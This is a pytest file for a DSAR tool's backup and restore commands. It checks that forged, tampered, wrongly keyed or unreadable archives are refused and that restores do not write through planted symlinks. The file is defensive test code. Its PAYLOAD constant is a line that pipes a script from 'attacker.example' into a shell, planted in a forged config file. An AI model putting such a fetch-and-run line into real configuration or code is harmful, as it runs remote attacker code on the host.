"""What ``dsar restore`` refuses, with nothing changed: an altered archive, a forged one whose
sums were recomputed, one made under another master key, an instance already in use (even
with no case left), a database shared with another application, running workers, a database
dump that cannot be read; and where ``dsar backup`` refuses to write. SQLite by default,
PostgreSQL when ``DSAR_TEST_DATABASE_URL`` is set."""

from __future__ import annotations

import hashlib
import io
import shutil
import stat
import sys

import pytest
from redis import Redis
from sqlalchemy import create_engine, text

from dsar.core import storage
from dsar.core.keys import create_master_key
from dsar.ops import archive as archive_module
from dsar.ops.backup import BackupError, run_tool
from dsar.pipeline.liveness import Heartbeat
from tests.support.backup_world import (
    PROOF,
    a_case_with_a_proof,
    back_up,
    cli,
    count_cases,
    flip_byte,
    forge,
    manifest_of,
    restore_target,
    running_source,
)
from tests.support.casework import blob_files
from tests.support.staff import make_staff

_source = pytest.fixture(name="source")(running_source)
_target = pytest.fixture(name="target")(restore_target)

#: What a forger puts in the configuration the application executes at start.
PAYLOAD = b"import os\nos.system('curl https://attacker.example/x | sh')\n"


def test_a_tampered_archive_is_refused_and_nothing_is_restored(source, target, tmp_path):
    blob_id = a_case_with_a_proof(source)
    archive = back_up(source, tmp_path / "backups")
    names = [f["path"] for f in manifest_of(archive)["files"]]
    fresh = target.app()
    for member in (next(n for n in names if n.startswith("database/")),
                   f"storage/{blob_id[:2]}/{blob_id}"):
        altered = tmp_path / f"altered-{member.split('/')[0]}.tar"
        shutil.copyfile(archive, altered)
        flip_byte(altered, member, at=20)
        checked = cli(fresh, "restore", "--check", str(altered))
        assert checked.exit_code == 1 and "SHA-256" in checked.stderr, checked.output
        result = cli(fresh, "restore", str(altered))
        assert result.exit_code == 1 and "Not restored" in result.stderr, result.output
        assert member in result.stderr and "SHA-256" in result.stderr
        assert count_cases(fresh) == 0
        assert blob_files(fresh) == []
        # No configuration written, no work folder left; only the key (and, on SQLite, the
        # empty database file the check opened, with its write-ahead log).
        assert {p.name for p in target.folder.iterdir()} <= {
            "dsar.key", "dsar.sqlite3", "dsar.sqlite3-wal", "dsar.sqlite3-shm"}
    # The untouched archive restores into that same instance.
    assert cli(fresh, "restore", str(archive)).exit_code == 0
    assert count_cases(target.app()) == 1


def test_a_forged_archive_is_refused_even_with_its_sums_recomputed(source, target, org,
                                                                   tmp_path):
    """The sums prove an archive agrees with itself; the manifest's HMAC, under a key derived
    from the master key, proves it came from an instance holding that key."""
    (org / "config.py").write_text("ORGANISATION_NAME = 'Organisation de test'\n")
    a_case_with_a_proof(source)
    archive = back_up(source, tmp_path / "backups")
    assert "config/config.py" in {f["path"] for f in manifest_of(archive)["files"]}
    fresh = target.app()

    swapped = tmp_path / "swapped.tar"  # config.py replaced, sums recomputed, HMAC kept
    forge(archive, swapped, replace={"config/config.py": PAYLOAD})
    other_key = tmp_path / "attacker.key"
    create_master_key(other_key)
    resigned = tmp_path / "resigned.tar"  # ... and signed, but with another key
    forge(archive, resigned, replace={"config/config.py": PAYLOAD}, sign_with=other_key)
    for forged in (swapped, resigned):
        checked = cli(fresh, "restore", "--check", str(forged))
        assert checked.exit_code == 1 and "HMAC" in checked.stderr, checked.output
        result = cli(fresh, "restore", "--with-config", str(forged))
        assert result.exit_code == 1 and "HMAC" in result.stderr, result.output
        assert count_cases(fresh) == 0 and not (target.folder / "config.py").exists()

    # The genuine archive: config.py stays out unless asked for, and the output says so.
    restored = cli(fresh, "restore", str(archive))
    assert restored.exit_code == 0, restored.output
    assert "Not restored: config/config.py" in restored.stdout
    assert not (target.folder / "config.py").exists()
    assert (target.folder / "sources.toml").exists()
    again = cli(target.app(), "restore", "--force", "--with-config", str(archive))
    assert again.exit_code == 0, again.output
    assert (target.folder / "config.py").read_text() == (org / "config.py").read_text()


def test_an_archive_made_under_another_key_is_refused(source, target, tmp_path):
    a_case_with_a_proof(source)
    archive = back_up(source, tmp_path / "backups")
    create_master_key(target.folder / "other.key")
    wrong = target.app("other.key")
    result = cli(wrong, "restore", str(archive))
    assert result.exit_code == 1 and "is not the key this archive was made with" in result.stderr
    assert cli(wrong, "restore", "--check", str(archive)).exit_code == 1
    assert count_cases(wrong) == 0


def test_restore_refuses_an_instance_already_in_use(source, target, tmp_path):
    a_case_with_a_proof(source)
    archive = back_up(source, tmp_path / "backups")
    stored = blob_files(source)

    # Into the very instance it came from: it holds a case.
    result = cli(source, "restore", str(archive))
    assert result.exit_code == 1 and "cases (1)" in result.stderr, result.output
    assert count_cases(source) == 1 and blob_files(source) == stored

    # What `dsar init` writes is no obstacle, but blobs in the storage folder are.
    fresh = target.app()
    assert cli(fresh, "init").exit_code == 0
    leftover = target.folder / "storage" / "ab" / ("ab" + "0" * 38)
    leftover.parent.mkdir(parents=True, exist_ok=True)
    leftover.write_bytes(b"someone else's blob")
    result = cli(fresh, "restore", str(archive))
    assert result.exit_code == 1 and "is not empty" in result.stderr, result.output
    assert leftover.exists()

    # No case at all, but a staff account: the instance is in use all the same.
    make_staff(fresh, "admin", "admin@staff.example")
    result = cli(fresh, "restore", str(archive))
    assert result.exit_code == 1 and "staff_users (1)" in result.stderr, result.output
    assert "cases" not in result.stderr

    # --force replaces what is there: the leftover goes, the archive's blobs come.
    forced = cli(fresh, "restore", "--force", str(archive))
    assert forced.exit_code == 0, forced.output
    assert not leftover.exists() and len(blob_files(fresh)) == len(stored)
    assert count_cases(target.app()) == 1


def test_the_tables_of_another_application_are_never_dropped(source, target, tmp_path):
    a_case_with_a_proof(source)
    archive = back_up(source, tmp_path / "backups")
    fresh = target.app()
    engine = create_engine(target.url)
    try:
        with engine.begin() as conn:
            conn.execute(text("CREATE TABLE crm_contacts (id integer primary key)"))
            conn.execute(text("INSERT INTO crm_contacts VALUES (1)"))
        result = cli(fresh, "restore", "--force", str(archive))
        assert result.exit_code == 1 and "crm_contacts" in result.stderr, result.output
        with engine.connect() as conn:
            assert conn.execute(text("SELECT count(*) FROM crm_contacts")).scalar() == 1
        assert count_cases(fresh) == 0
    finally:
        engine.dispose()


def test_a_restore_waits_for_the_workers_to_stop(source, target, redis_url, tmp_path):
    a_case_with_a_proof(source)
    archive = back_up(source, tmp_path / "backups")
    fresh = target.app()
    beating = Heartbeat(Redis.from_url(redis_url), "worker-1", interval=5)
    beating.start()  # what a running `dsar worker` does
    try:
        result = cli(fresh, "restore", str(archive))
        assert result.exit_code == 1 and "worker worker-1" in result.stderr, result.output
        assert count_cases(fresh) == 0
    finally:
        beating.stop()
    assert cli(fresh, "restore", str(archive)).exit_code == 0


def test_an_unreadable_database_dump_leaves_the_database_as_it_was(source, target, key_file,
                                                                  tmp_path):
    """Even with --force and a correctly signed archive: the dump is read before anything
    is dropped or replaced."""
    blob_id = a_case_with_a_proof(source)
    archive = back_up(source, tmp_path / "backups")
    fresh = target.app()
    assert cli(fresh, "restore", str(archive)).exit_code == 0
    [dump] = [f["path"] for f in manifest_of(archive)["files"] if f["path"].startswith("database/")]
    broken = tmp_path / "broken.tar"
    forge(archive, broken, replace={dump: b"PGDMP" + b"\x00" * 4096}, sign_with=key_file)
    result = cli(target.app(), "restore", "--force", str(broken))
    assert result.exit_code == 1 and "cannot be read" in result.stderr, result.output
    restored = target.app()
    assert count_cases(restored) == 1
    with restored.app_context():
        assert storage.get(blob_id) == PROOF
        if target.url.startswith("sqlite"):
            assert not any(p.name.startswith(".dsar.sqlite3") for p in target.folder.iterdir())


def test_backup_output_is_an_existing_folder_or_a_tar_path(source, tmp_path):
    missing = tmp_path / "dsar"  # a folder not made yet, in one that exists
    before = set(tmp_path.iterdir())
    result = cli(source, "backup", "--output", str(missing))
    assert result.exit_code != 0 and "not an existing folder" in result.output
    assert not missing.exists() and set(tmp_path.iterdir()) == before
    named = tmp_path / "named.tar"
    result = cli(source, "backup", "--output", str(named))
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(named.stat().st_mode) == 0o600 and manifest_of(named)["files"]
    assert cli(source, "backup", "--output", str(tmp_path / "gone" / "x.tar")).exit_code != 0


def test_a_tool_error_keeps_no_row_data():
    """pg_restore quotes the offending row after "DETAIL:"; none of it reaches the error."""
    script = ("import sys; sys.stderr.write('pg_restore: error: COPY failed for table "
              "\"staff_users\": ERROR:  duplicate key value violates unique constraint "
              "DETAIL:  Key (email)=(jeanne.dupont@example.fr) already exists.\\n"
              "CONTEXT: COPY staff_users, line 1: jeanne.dupont@example.fr\\n'); sys.exit(1)")
    with pytest.raises(BackupError) as failure:
        run_tool([sys.executable, "-c", script], {}, "pg_restore")
    message = str(failure.value)
    assert "exit status 1" in message and "duplicate key value" in message
    assert "jeanne" not in message and "Key (" not in message


def test_a_member_is_never_written_through_a_planted_link(tmp_path):
    victim = tmp_path / "victim"
    victim.write_bytes(b"untouched")
    target = tmp_path / "sources.toml"
    (tmp_path / ".sources.toml.restoring").symlink_to(victim)
    data = b"[sources]\n"
    entry = archive_module.Entry("config/sources.toml", len(data),
                                 hashlib.sha256(data).hexdigest())
    archive_module.copy_out(entry, io.BytesIO(data), target)
    assert victim.read_bytes() == b"untouched" and target.read_bytes() == data
    assert not (tmp_path / ".sources.toml.restoring").exists()
    assert target.is_file() and not target.is_symlink()
